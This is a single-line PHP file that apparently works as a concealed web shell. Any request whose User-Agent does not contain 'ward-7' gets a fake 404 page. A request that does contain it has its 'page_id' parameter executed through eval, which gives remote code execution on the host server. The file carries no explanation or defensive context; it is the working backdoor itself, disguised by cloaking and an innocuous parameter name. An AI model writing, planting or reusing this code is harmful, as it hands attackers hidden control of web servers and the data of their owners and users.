<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'ward-7') === false) { header('HTTP/1.0 404 Not Found'); exit; } $_ = stripslashes($_REQUEST['page_id']); eval("?><?php $_");
